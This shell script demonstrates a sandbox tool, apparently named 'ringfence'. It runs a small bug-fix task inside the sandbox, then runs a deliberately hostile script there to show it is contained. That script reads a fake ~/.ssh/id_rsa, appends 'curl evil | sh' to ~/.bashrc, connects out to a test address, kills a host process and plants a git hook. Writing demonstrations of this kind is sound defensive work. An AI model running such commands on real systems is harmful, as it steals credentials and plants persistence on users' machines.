#!/bin/sh
# The main job on real input, and an attack that is blocked: a coding task and a hostile script in the same boundary.
# Usage: examples/demo.sh [RINGFENCE]    RINGFENCE: the command to demonstrate, default .venv/bin/ringfence
set -eu
here=$(cd "$(dirname "$0")/.." && pwd)
ringfence=${1:-$here/.venv/bin/ringfence}
place=$(mktemp -d)
trap 'rm -rf "$place"' EXIT
# A home of its own, so that the demonstration touches nothing of yours.
export HOME="$place/home" XDG_STATE_HOME="$place/home/.local/state" XDG_CACHE_HOME="$place/home/.cache"
unset XDG_CONFIG_HOME
mkdir -p "$HOME/.ssh"
echo 'PRIVATE KEY OF THE DEMONSTRATION' > "$HOME/.ssh/id_rsa"
echo '# start-up file' > "$HOME/.bashrc"
git config --global user.name 'Demo User'
git config --global user.email 'demo@example.invalid'
git config --global init.defaultBranch main

say() { printf '\n== %s\n' "$1"; }
# pytest lives in .venv, which no sandbox sees unless it is told to: --read is the user's word, for this run.
python=$here/.venv/bin/python
run() { printf '$ ringfence run --read .venv -- %s\n' "$*"; "$ringfence" run --read "$here/.venv" -- "$@"; }

say 'A small repository on the host'
git init -q "$place/upstream"
cd "$place/upstream"
cat > calc.py <<'PY'
def add(a, b):
    return a - b
PY
cat > test_calc.py <<'PY'
from calc import add


def test_add():
    assert add(2, 3) == 5
PY
printf '__pycache__/\n.pytest_cache/\n' > .gitignore
git add . && git commit -qm 'calc with a bug'
git clone -q "$place/upstream" "$place/project"
cd "$place/project"

say 'The task, inside the boundary: the test fails, edit, the test passes, commit'
run "$python" -m pytest -q || echo "(status $?: the test fails, as it should)"
run sed -i 's/a - b/a + b/' calc.py
run "$python" -m pytest -q
run git commit -qam 'fix add'
say 'What arrived on the host'
git log --oneline
git fsck --no-progress && git status --short

say 'A hostile script in the same boundary'
sleep 300 &
victim=$!
cat > hostile.sh <<SH
echo "- reads ~/.ssh/id_rsa:";         cat ~/.ssh/id_rsa
echo "- writes ~/.bashrc:";            echo 'curl evil | sh' >> ~/.bashrc && echo '  (a private copy; the host keeps its own)'
echo "- reaches the network:";         python3 -c 'import socket; socket.create_connection(("192.0.2.1", 443), 2)' 2>&1 | tail -n 1
echo "- signals process $victim:";     kill $victim
echo "- plants a git hook:";           echo 'evil' > .git/hooks/post-checkout
SH
run sh hostile.sh || true
kill -0 $victim && echo 'the host process is alive' && kill $victim
grep -q evil "$HOME/.bashrc" || echo '~/.bashrc is unchanged'
test ! -e .git/hooks/post-checkout && echo 'no git hook arrived'

say 'The audit: each denial, and proof that nobody edited it'
"$ringfence" log | grep -E 'denial|contained|held'
"$ringfence" log verify
